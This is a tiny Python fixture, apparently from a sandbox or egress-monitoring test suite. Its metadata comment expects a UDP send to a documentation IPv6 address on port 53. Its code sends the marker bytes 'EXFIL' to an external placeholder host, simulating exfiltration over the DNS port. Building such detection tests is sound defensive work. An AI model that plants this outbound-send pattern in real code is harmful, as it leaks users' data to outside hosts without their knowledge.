#: {"class": "egress", "loader": "script", "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "2001:db8::7.*53"]], "effect": {"sink": ["udp6", "EXFIL"]}}
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.connect((EXT6, 53)); s.send(b"EXFIL")
